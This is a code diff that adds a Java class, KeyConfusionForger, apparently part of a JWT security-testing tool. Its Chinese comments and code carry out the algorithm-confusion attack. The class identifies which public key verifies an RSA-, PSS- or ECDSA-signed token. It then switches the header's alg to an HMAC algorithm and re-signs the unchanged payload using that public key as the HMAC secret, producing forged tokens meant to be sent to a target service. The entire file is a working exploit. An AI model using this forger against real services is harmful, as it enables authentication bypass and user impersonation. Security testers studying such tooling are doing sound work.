@@ -0,0 +1,144 @@
+package com.brandy.core.attack;
+
+import com.brandy.core.crypto.PublicKeyParser;
+import com.brandy.core.model.KeyMaterial;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+
+import javax.crypto.Mac;
+import javax.crypto.spec.SecretKeySpec;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.math.BigInteger;
+import java.nio.charset.StandardCharsets;
+import java.security.GeneralSecurityException;
+import java.security.Signature;
+import java.security.spec.MGF1ParameterSpec;
+import java.security.spec.PSSParameterSpec;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.Base64;
+import java.util.List;
+
+/**
+ * 非对称签名令牌的算法混淆：先找出候选公钥中能验证原令牌签名的密钥，
+ * 再把头部 alg 改为 HS256/HS384/HS512，用该公钥的每种编码作为 HMAC 密钥重新签名，
+ * 得到可直接发给目标服务的伪造令牌。
+ */
+final class KeyConfusionForger {
+    static final String[] HMAC_ALGORITHMS = {"HS256", "HS384", "HS512"};
+    private static final ObjectMapper MAPPER = new ObjectMapper();
+
+    private KeyConfusionForger() {
+    }
+
+    /**
+     * @return 能验证令牌签名的候选公钥
+     * @throws IllegalArgumentException 令牌算法不是 RS*、PS* 或 ES*
+     */
+    static List<KeyMaterial> findSigningKeys(String[] parts, String algorithm, List<KeyMaterial> keys) {
+        String javaAlgorithm = signatureAlgorithm(algorithm);
+        String keyType = algorithm.startsWith("ES") ? "EC" : "RSA";
+        byte[] input = (parts[0] + "." + parts[1]).getBytes(StandardCharsets.US_ASCII);
+        byte[] signature = Base64.getUrlDecoder().decode(parts[2]);
+        if (keyType.equals("EC")) {
+            signature = derSignature(signature);
+        }
+        List<KeyMaterial> signers = new ArrayList<>();
+        for (KeyMaterial key : keys) {
+            if (!keyType.equals(key.getKeyType())) {
+                continue;
+            }
+            try {
+                Signature verifier = Signature.getInstance(javaAlgorithm);
+                if (algorithm.startsWith("PS")) {
+                    verifier.setParameter(pssParameters(algorithm));
+                }
+                verifier.initVerify(PublicKeyParser.toPublicKey(key.getKeyType(), key.getSpki()));
+                verifier.update(input);
+                if (verifier.verify(signature)) {
+                    signers.add(key);
+                }
+            } catch (GeneralSecurityException e) {
+                // 曲线不匹配或签名长度不符，视为不是该密钥签名
+            }
+        }
+        return signers;
+    }
+
+    /**
+     * 把头部 alg 换成 hmacAlgorithm，载荷不变，用 key 签名
+     */
+    static String forge(String[] parts, String hmacAlgorithm, byte[] key) {
+        try {
+            ObjectNode header = (ObjectNode) MAPPER.readTree(Base64.getUrlDecoder().decode(parts[0]));
+            header.put("alg", hmacAlgorithm);
+            Base64.Encoder encoder = Base64.getUrlEncoder().withoutPadding();
+            String input = encoder.encodeToString(MAPPER.writeValueAsBytes(header)) + "." + parts[1];
+            String javaAlgorithm = HmacVerifier.getJavaAlgorithm(hmacAlgorithm);
+            Mac mac = Mac.getInstance(javaAlgorithm);
+            mac.init(new SecretKeySpec(key, javaAlgorithm));
+            return input + "." + encoder.encodeToString(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
+        } catch (IOException | GeneralSecurityException | ClassCastException e) {
+            throw new IllegalArgumentException("无法伪造令牌: " + e.getMessage(), e);
+        }
+    }
+
+    private static String signatureAlgorithm(String algorithm) {
+        switch (algorithm) {
+            case "RS256":
+                return "SHA256withRSA";
+            case "RS384":
+                return "SHA384withRSA";
+            case "RS512":
+                return "SHA512withRSA";
+            case "PS256":
+            case "PS384":
+            case "PS512":
+                return "RSASSA-PSS";
+            case "ES256":
+                return "SHA256withECDSA";
+            case "ES384":
+                return "SHA384withECDSA";
+            case "ES512":
+                return "SHA512withECDSA";
+            default:
+                throw new IllegalArgumentException("Unsupported algorithm: " + algorithm);
+        }
+    }
+
+    private static PSSParameterSpec pssParameters(String algorithm) {
+        switch (algorithm) {
+            case "PS384":
+                return new PSSParameterSpec("SHA-384", "MGF1", MGF1ParameterSpec.SHA384, 48, 1);
+            case "PS512":
+                return new PSSParameterSpec("SHA-512", "MGF1", MGF1ParameterSpec.SHA512, 64, 1);
+            default:
+                return new PSSParameterSpec("SHA-256", "MGF1", MGF1ParameterSpec.SHA256, 32, 1);
+        }
+    }
+
+    /**
+     * JWS 的 ECDSA 签名是定长 r || s，JCA 需要 DER 编码的 SEQUENCE { r, s }
+     */
+    private static byte[] derSignature(byte[] raw) {
+        int half = raw.length / 2;
+        byte[] r = new BigInteger(1, Arrays.copyOfRange(raw, 0, half)).toByteArray();
+        byte[] s = new BigInteger(1, Arrays.copyOfRange(raw, half, raw.length)).toByteArray();
+        ByteArrayOutputStream content = new ByteArrayOutputStream();
+        content.write(0x02);
+        content.write(r.length);
+        content.writeBytes(r);
+        content.write(0x02);
+        content.write(s.length);
+        content.writeBytes(s);
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.write(0x30);
+        if (content.size() >= 0x80) {
+            out.write(0x81);
+        }
+        out.write(content.size());
+        out.writeBytes(content.toByteArray());
+        return out.toByteArray();
+    }
+}